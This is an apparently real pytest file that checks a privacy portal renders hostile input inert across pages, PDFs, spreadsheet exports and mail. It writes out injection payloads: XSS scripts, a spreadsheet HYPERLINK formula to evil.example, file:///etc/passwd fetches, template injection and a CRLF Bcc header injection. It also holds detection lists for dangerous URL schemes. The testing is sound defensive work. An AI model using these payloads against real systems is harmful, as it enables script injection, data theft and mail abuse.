"""Hostile text stays text: script, markup, formulas, template syntax and CRLF render inert.

The payloads go in where people type them (every free-text form of the portal, through the
real forms) and where the identity provider names people (the hostile accounts ``mallory``,
``oscar`` and ``eve`` of ``tests/support/identity.py``, signed in through the real provider). Then
every place that shows them is read back: HTML pages of each role, mail received by a real
SMTP server, the HR exports (CSV, XLSX, JSON, PDF), the personal download (CSV, HTML and PDF
summary) and the printed receipt and certificate. A real HTTP listener on 127.0.0.1, named in
the payloads, records any request WeasyPrint (or anything else) would make.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import yaml
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from weasyprint import HTML

from portal.auth.models import Person
from portal.catalog.document import SHIPPED_CATALOG, read_catalog_file
from portal.catalog.models import Objection
from portal.catalog.publication import load_catalog
from portal.consent.models import ConsentEvent
from portal.db import commit, db
from portal.i18n import LANGUAGES
from portal.mail import NOT_ONE_ADDRESS, MailMessage, MailState, queue_mail, send_pending
from portal.pdf import BASE_URL, RefusedURL, StaticOnlyFetcher
from portal.requests.models import DeletionRequest
from portal.requests.service import plan_categories
from portal.vault.checks import parse_timestamp
from portal.vault.ingest import find_category, ingest_batch
from tests.support.config import portal_settings
from tests.support.identity import ACCOUNTS, SignIn
from tests.support.oidc_provider import OIDCProvider
from tests.support.postgres import free_port
from tests.support.smtp import Inbox, smtp_server
from tests.support.tamper_proxy import TamperProxy

_CSRF = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
#: What a spreadsheet runs as a formula when a cell starts with it (and full-width twins).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: Where the payloads point WeasyPrint; the listener serves this port.
LISTENER_PORT = free_port()


def payload(label: str, trigger: str = "=") -> str:
    """Return a hostile text, recognisable by ``label``, starting with a formula trigger."""
    return (f"{trigger}HYPERLINK(\"http://evil.example/{label}\")"
            f"<script>alert('{label}')</script>\"><img src=x onerror=alert('{label}')>"
            f" javascript:alert(1) {{{{7*7}}}} <img src=\"file:///etc/passwd\">"
            f"<div style=\"background:url(http://127.0.0.1:{LISTENER_PORT}/{label})\">"
            f"<link rel=stylesheet href=http://127.0.0.1:{LISTENER_PORT}/{label}.css>"
            "\r\nBcc: x@evil.example")


def marker(label: str) -> str:
    """Return the part of :func:`payload` that shows a text was rendered, as text."""
    return f"<script>alert('{label}')</script>"


#: Recognisable pieces of the hostile provider attributes (tests/support/identity.py).
PROVIDER_MARKERS = {
    "mallory's name": "<script>alert('name')</script>",
    "mallory's department": "<img src=x onerror=alert('department')>",
    "mallory's location": "<link rel=stylesheet href=file:///etc/passwd>",
    "mallory's e-mail": "mallory+{{7*7}}@example.com",
    "oscar's name": "<svg onload=alert('staff')>{{7*7}}",
}


# --- real servers: SMTP and a listener that records every request ---------------------------

@pytest.fixture
def smtp() -> Iterator[tuple[Inbox, int]]:
    """A real SMTP server on 127.0.0.1 (aiosmtpd) that keeps what it receives."""
    with smtp_server() as server:
        yield server


@pytest.fixture
def listener() -> Iterator[list[str]]:
    """An HTTP server on the port the payloads name; the list holds every request made."""
    requests_seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests_seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", LISTENER_PORT), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    yield requests_seen
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.fixture
def settings(database_url: str, idp: tuple[OIDCProvider, TamperProxy],
             smtp: tuple[Inbox, int]) -> dict[str, Any]:
    values = portal_settings(database_url, idp[0].issuer, "http://localhost")
    values.update(SMTP_HOST="127.0.0.1", SMTP_PORT=smtp[1], SMTP_SECURITY="none",
                  DPO_TEAM_EMAIL="privacy-team@example.com")
    return values


# --- reading things back ---------------------------------------------------------------------

#: Attributes whose value the browser loads or runs.
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "background", "poster",
                   "data", "xlink:href"}
_BAD_URL_STARTS = ("javascript:", "vbscript:", "data:", "file:", "http://evil.example",
                   f"http://127.0.0.1:{LISTENER_PORT}")


class InertCheck(HTMLParser):
    """Collect anything in a page that a browser would run or load from a payload."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.raw_text_tag: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            # Browsers ignore white space and control characters around a scheme.
            lowered = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name == "style":
                urls = re.findall(r"url\(([^)]*)\)", lowered)
            elif name in _URL_ATTRIBUTES:
                urls = lowered.split(",") if name == "srcset" else [lowered]
            else:
                continue
            # A link to the portal itself may carry a payload in its query: that is data.
            if any(url.strip("'\"").startswith(_BAD_URL_STARTS) for url in urls):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in {"script", "style"}:
            self.raw_text_tag = tag

    def handle_endtag(self, tag: str) -> None:
        if tag == self.raw_text_tag:
            self.raw_text_tag = None

    def handle_data(self, data: str) -> None:
        if self.raw_text_tag:
            if "alert(" in data or "127.0.0.1" in data:
                self.problems.append(f"<{self.raw_text_tag}> runs {data[:60]!r}")
            return
        self.text.append(data)


def squash(text: str) -> str:
    """Drop all white space (layout breaks lines, HTML collapses them)."""
    return re.sub(r"\s+", "", text)


@dataclass
class Seen:
    """Which payloads were shown where, to check that every one was shown somewhere."""

    where: dict[str, set[str]] = field(default_factory=dict)

    def note(self, place: str, text: str, markers: dict[str, str]) -> set[str]:
        flat = squash(text)
        found = {name for name, mark in markers.items() if squash(mark) in flat}
        self.where[place] = found
        return found


def inert_page(client: FlaskClient, path: str, seen: Seen, markers: dict[str, str]) -> str:
    """Fetch a page; assert nothing in it runs; return its text (payloads as typed)."""
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    body = response.get_data(as_text=True)
    check = InertCheck()
    check.feed(body)
    check.close()
    assert check.problems == [], (path, check.problems)
    text = "".join(check.text)
    assert seen.note(path, text, markers), f"{path} shows none of the hostile texts"
    return text


def pdf_text(data: bytes, tmp_path: Path, name: str) -> str:
    """Return the text of a PDF as pdftotext reads it."""
    assert data.startswith(b"%PDF-"), name
    path = tmp_path / f"{name}.pdf"
    path.write_bytes(data)
    done = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True,
                          check=True, timeout=60)
    return done.stdout.decode("utf-8")


_tokens: dict[int, str] = {}


def csrf(client: FlaskClient, path: str) -> str:
    """Return the session's CSRF token, read once from a page (every page's layout has it)."""
    if id(client) not in _tokens:
        match = _CSRF.search(client.get(path).get_data(as_text=True))
        assert match is not None, path
        _tokens[id(client)] = match.group(1)
    return _tokens[id(client)]


def signed_in(app: Flask, sign_in: SignIn, who: str) -> FlaskClient:
    client = app.test_client()
    sign_in.login(client, who)
    _tokens.pop(id(client), None)
    return client


def person(app: Flask, who: str) -> Person:
    with app.app_context():
        found = db.scalar(select(Person).where(Person.subject == ACCOUNTS[who].sub))
        assert found is not None
        return found


def strings(value: Any) -> Iterator[str]:
    """Yield every string in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def assert_neutral_cell(value: Any, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(TRIGGERS), (where, value)


# --- the scenario ----------------------------------------------------------------------------

def _hostile_catalog() -> str:
    raw = yaml.safe_load(SHIPPED_CATALOG.read_text(encoding="utf-8"))
    [keystrokes] = [item for item in raw["categories"] if item["key"] == "keystrokes"]
    keystrokes["text"]["en"]["summary"] = payload("catalog summary", "+")
    keystrokes["text"]["en"]["title"] = "=Keystrokes<b onmouseover=alert('title')>"
    keystrokes["text"]["en"]["purposes"].append(payload("catalog purpose", "@"))
    return yaml.safe_dump(raw, allow_unicode=True, sort_keys=False)


def _publish(oscar: FlaskClient) -> None:
    token = csrf(oscar, "/admin/notices/new")
    response = oscar.post("/admin/notices/new",
                          data={"csrf_token": token, "catalog_text": _hostile_catalog()})
    assert response.status_code == 302, response.get_data(as_text=True)
    response = oscar.post("/admin/notices/new/review", data={
        "csrf_token": token, "dpo_sign_off": payload("sign-off")[:255],
        "works_council_ref": payload("works council", "-")[:255],
        **{f"summary_{code}": payload("change summary") for code in LANGUAGES},
        "material_keystrokes": "y", "reason_keystrokes": payload("material reason", "@")})
    assert response.status_code == 302, response.get_data(as_text=True)
    response = oscar.post("/admin/notices/new/check", data={"csrf_token": token})
    assert response.headers["Location"] == "/admin/notices/2?published=1"


def _collected(app: Flask, who: str) -> None:
    """Store keystrokes that type payloads (what a collector sends is typed by a person too)."""
    start = dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(minutes=30)
    events = [{"t": (start + dt.timedelta(seconds=index)).isoformat().replace("+00:00", "Z"),
               "app": "terminal", "keys": payload("typed", trigger),
               "duration_ms": 100} for index, trigger in enumerate(TRIGGERS)]
    pointer = [{"t": event["t"], "x": index, "y": index, "screen": 1, "app": "browser"}
               for index, event in enumerate(events)]
    with app.app_context():
        someone = db.get(Person, person(app, who).id)
        assert someone is not None
        for key, batch in (("keystrokes", events), ("pointer", pointer)):
            moments = [parse_timestamp(event["t"]) for event in batch]
            ingest_batch(someone, find_category(key), events=batch,
                         collected_from=min(m for m in moments if m),
                         collected_to=max(m for m in moments if m), dss_level=2)
        commit()


def _request(mallory: FlaskClient, **data: Any) -> str:
    response = mallory.post("/requests/new", data={"csrf_token": csrf(mallory, "/requests/new"),
                                                   **data})
    assert response.status_code == 303, response.get_data(as_text=True)
    match = re.search(r"/requests/([0-9a-f-]{36})", response.headers["Location"])
    assert match
    return match.group(1)


def test_hostile_text_renders_inert_everywhere(
        app: Flask, sign_in: SignIn, smtp: tuple[Inbox, int], listener: list[str],
        tmp_path: Path) -> None:
    with app.app_context():
        load_catalog(read_catalog_file(SHIPPED_CATALOG), published_by="tests")
        commit()
    oscar = signed_in(app, sign_in, "oscar")  # privacy admin, DPO and HR, with a hostile name
    mallory = signed_in(app, sign_in, "mallory")

    # The privacy admin registers a collector with a hostile name; a hostile address is refused.
    token = csrf(oscar, "/admin/collectors/new")
    for url in ("javascript:alert(1)", "https://collector.example/\"><script>alert(1)</script>"):
        response = oscar.post("/admin/collectors/new", data={
            "csrf_token": token, "name": "agent", "categories": ["keystrokes"],
            "webhook_url": url})
        assert response.status_code == 400
        check = InertCheck()
        check.feed(response.get_data(as_text=True))
        assert check.problems == []
    response = oscar.post("/admin/collectors/new", data={
        "csrf_token": token, "name": "=cmd<script>alert('collector name')</script>",
        "categories": ["keystrokes"],
        "webhook_url": "http://127.0.0.1:9/hooks"})
    assert response.status_code == 200, response.get_data(as_text=True)

    # Mallory gives consent and has keystrokes recorded; a material change ends the consent.
    history_token = csrf(mallory, "/consent/history")
    for key in ("keystrokes", "pointer"):
        assert mallory.post(f"/consent/{key}/grant", data={
            "csrf_token": history_token, "notice_version": "1"}).status_code in {302, 303}
    _collected(app, "mallory")
    _publish(oscar)

    # Mallory objects and asks for deletions, with hostile reasons.
    response = mallory.post("/categories/performance/objections", data={
        "csrf_token": csrf(mallory, "/categories/performance"),
        "reason": payload("objection reason", "-")})
    assert response.status_code == 302, response.get_data(as_text=True)
    first = _request(mallory, scope="all", reason=payload("deletion reason", "\t"))
    second = _request(mallory, scope="categories", categories=["pointer"],
                      reason=payload("deletion reason", "\t"))

    # The DPO extends, approves in part (keeping keystrokes), executes, refuses, decides.
    dpo_token = csrf(oscar, f"/dpo/requests/{first}")
    with app.app_context():
        found = db.scalar(select(DeletionRequest).where(DeletionRequest.reference == first))
        assert found is not None
        kept = plan_categories(found).index("keystrokes")
        objection = db.scalar(select(Objection.id))
    decisions = {
        f"/dpo/requests/{first}/extend": {"months": "1", "reason": payload("extension reason")},
        f"/dpo/requests/{first}/approve-in-part": {
            f"keep_{kept}": "y", f"reason_{kept}": payload("kept reason", "+"),
            "reason": payload("approval note", "@")},
        f"/dpo/requests/{first}/execute": {},
        f"/dpo/requests/{second}/refuse": {"reason": payload("refusal reason", "-")},
    }
    decisions[f"/dpo/objections/{objection}/extend"] = {
        "extend-csrf_token": dpo_token, "extend-months": "1",
        "extend-reason": payload("objection extension", "=")}
    decisions[f"/dpo/objections/{objection}"] = {
        "decision": "dismissed", "reason": payload("objection decision", "+")}
    for path, data in decisions.items():
        response = oscar.post(path, data={"csrf_token": dpo_token, **data})
        assert response.status_code in {302, 303}, (path, response.get_data(as_text=True))

    # HR exports with a hostile purpose.
    exports = {}
    for fmt in ("csv", "xlsx", "json", "pdf"):
        response = oscar.post("/hr/export", data={"csrf_token": csrf(oscar, "/hr/"),
                                                  "purpose": payload("export purpose"),
                                                  "format": fmt})
        assert response.status_code == 200, (fmt, response.get_data(as_text=True)[:2000])
        exports[fmt] = response.get_data()

    markers = {label: marker(label) for label in
               ["collector name", "catalog summary", "catalog purpose", "sign-off",
                "works council", "change summary", "material reason", "objection reason",
                "deletion reason", "extension reason", "kept reason", "approval note",
                "refusal reason", "objection extension", "objection decision", "export purpose"]}
    markers["catalog title"] = "=Keystrokes<b onmouseover=alert('title')>"
    markers.update(PROVIDER_MARKERS)
    seen = Seen()

    # --- HTML: every page that shows them, for each role ---
    with app.app_context():
        receipt = db.scalar(select(ConsentEvent.receipt_id)
                            .where(ConsentEvent.person_id == person(app, "mallory").id)
                            .order_by(ConsentEvent.id))
    for path in ("/", "/categories/", "/categories/keystrokes", "/categories/performance",
                 "/consent/history", "/my-data", "/my-data/download", "/access-log",
                 "/requests/", f"/requests/{first}", f"/requests/{second}"):
        inert_page(mallory, path, seen, markers)
    for path in ("/dpo/requests", f"/dpo/requests/{first}", f"/dpo/requests/{second}",
                 f"/dpo/objections/{objection}", "/hr/",
                 "/hr/?" + urlencode({"department": ACCOUNTS["mallory"].department,
                                      "location": ACCOUNTS["mallory"].location}),
                 "/admin/", "/admin/notices/2",
                 "/admin/collectors/", "/consent/admin/webhooks"):
        inert_page(oscar, path, seen, markers)

    # --- PDF: the receipt, the certificate, HR's report, the download's summary ---
    pdfs = {"receipt": mallory.get(f"/consent/receipts/{receipt}.pdf").get_data(),
            "certificate": mallory.get(f"/requests/{first}/certificate.pdf").get_data(),
            "hr report": exports["pdf"]}
    response = mallory.post("/my-data/download", data={
        "csrf_token": csrf(mallory, "/my-data/download"), "categories": ["keystrokes"]})
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    pdfs["download summary"] = archive.read("summary.pdf")
    for name, data in pdfs.items():
        text = pdf_text(data, tmp_path, name)
        assert seen.note(f"{name}.pdf", text, markers), f"{name}.pdf shows no hostile text"
    summary = InertCheck()
    summary.feed(archive.read("summary.html").decode("utf-8"))
    assert summary.problems == []
    seen.note("summary.html", "".join(summary.text), markers)
    assert listener == [], "a document fetched a URL named in a payload"

    # --- CSV and XLSX: no cell starts a formula ---
    downloaded = list(csv.reader(io.StringIO(archive.read("collected/keystrokes.csv").decode(),
                                             newline="")))
    assert len(downloaded) == 1 + len(TRIGGERS)
    for row in downloaded:
        for cell in row:
            assert_neutral_cell(cell, "collected/keystrokes.csv")
    assert {row[downloaded[0].index("keys")] for row in downloaded[1:]} == {
        "'" + payload("typed", trigger) for trigger in TRIGGERS}
    records = list(csv.reader(io.StringIO(exports["csv"].decode("utf-8"), newline="")))
    header = records[0]
    mallory_row = next(row for row in records if row[header.index("account")] == "sub-mallory")
    for name in ("name", "department", "location"):
        column = header.index({"name": "person"}.get(name, name))
        assert mallory_row[column] == "'" + getattr(ACCOUNTS["mallory"], name)
    for row in records:
        for cell in row:
            assert_neutral_cell(cell, "HR CSV")
    workbook = load_workbook(io.BytesIO(exports["xlsx"]))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    for cell in cells:
        assert_neutral_cell(cell.value, f"HR XLSX {cell.coordinate}")
    assert "'" + ACCOUNTS["mallory"].name in {cell.value for cell in cells}
    # JSON is data, not a spreadsheet: the name is there exactly as the provider gave it.
    assert ACCOUNTS["mallory"].name in set(strings(json.loads(exports["json"])))

    # --- every hostile text was shown somewhere, as text ---
    shown = set().union(*seen.where.values())
    assert set(markers) - shown == set(), {place: sorted(found)
                                           for place, found in seen.where.items()}
    # And where each document must show them (the names from the provider above all).
    expected = {
        "/hr/": {"mallory's name", "mallory's department", "mallory's location"},
        "/dpo/requests": {"mallory's name"},
        f"/dpo/objections/{objection}": {"mallory's name", "objection reason"},
        "/access-log": {"oscar's name", "export purpose"},
        "/admin/notices/2": {"sign-off", "works council", "change summary", "material reason"},
        "receipt.pdf": {"mallory's name"},
        "certificate.pdf": {"mallory's name", "oscar's name", "kept reason"},
        "hr report.pdf": {"export purpose", "mallory's department"},
        "download summary.pdf": {"mallory's name", "mallory's e-mail"},
    }
    for place, wanted in expected.items():
        assert wanted <= seen.where[place], (place, sorted(wanted - seen.where[place]))

    # --- mail: plain text, one recipient each, nothing injected ---
    eve = signed_in(app, sign_in, "eve")
    _request(eve, scope="all", reason=payload("eve's reason"))
    send_pending(app)
    inbox = smtp[0]
    to_mallory = [message for rcpts, message in inbox.received
                  if rcpts == [ACCOUNTS["mallory"].email]]
    assert len(to_mallory) >= 6  # received, extended, approved in part, executed, refused, …
    for rcpts, message in inbox.received:
        assert rcpts in ([ACCOUNTS["mallory"].email], ["privacy-team@example.com"]), rcpts
        assert message.get_all("Bcc") is None and message.get_all("Cc") is None
        assert len(message.get_all("To") or []) == 1
        assert message.get_content_type() == "text/plain"
    bodies = "".join(message.get_payload(decode=True).decode() for message in to_mallory)
    for label in ("extension reason", "refusal reason", "objection decision"):
        assert squash(payload(label)[1:]) in squash(bodies), label
    assert "{{7*7}}" in bodies  # template syntax stays text
    assert "Hello =HYPERLINK" in bodies  # the name, as given
    with app.app_context():
        [to_eve] = db.scalars(select(MailMessage).where(MailMessage.recipient.like("eve@%")))
        assert (to_eve.state, to_eve.last_error) == (MailState.FAILED, NOT_ONE_ADDRESS)
        # A list of addresses in one claim is refused the same way.
        listed = queue_mail("a@example.com, x@evil.example", locale="en",
                            subject=payload("subject"),  # type: ignore[arg-type]
                            template="mail/request_team.txt", kind="cancelled", reference="r",
                            due_at=dt.datetime.now(dt.UTC), team_url="u")
        assert listed is not None and listed.state is MailState.FAILED


def test_documents_fetch_nothing_outside_even_from_raw_markup(listener: list[str]) -> None:
    """Were markup ever to reach a document unescaped, the fetcher still loads nothing."""
    hostile = (f"<p>x</p><img src=\"file:///etc/passwd\">"
               f"<img src=\"http://127.0.0.1:{LISTENER_PORT}/img\">"
               f"<div style=\"background:url(http://127.0.0.1:{LISTENER_PORT}/css)\">y</div>"
               f"<link rel=stylesheet href=\"http://127.0.0.1:{LISTENER_PORT}/sheet.css\">")
    # The listener works: WeasyPrint's own fetcher does call it.
    HTML(string=hostile, base_url=f"http://127.0.0.1:{LISTENER_PORT}/").write_pdf()
    assert listener, "the listener recorded nothing, so it proves nothing"
    listener.clear()
    for url in ("file:///etc/passwd", f"http://127.0.0.1:{LISTENER_PORT}/img"):
        with pytest.raises(RefusedURL):
            HTML(string=f"<img src=\"{url}\">", base_url=BASE_URL,
                 url_fetcher=StaticOnlyFetcher()).write_pdf()
    with pytest.raises(RefusedURL):
        HTML(string=hostile, base_url=BASE_URL, url_fetcher=StaticOnlyFetcher()).write_pdf()
    assert listener == []
    # The portal's own stylesheet is still served (the fetcher is not simply broken).
    pdf = HTML(string="<link rel=stylesheet href=portal.css><p>ok</p>", base_url=BASE_URL,
               url_fetcher=StaticOnlyFetcher()).write_pdf()
    assert pdf.startswith(b"%PDF-")
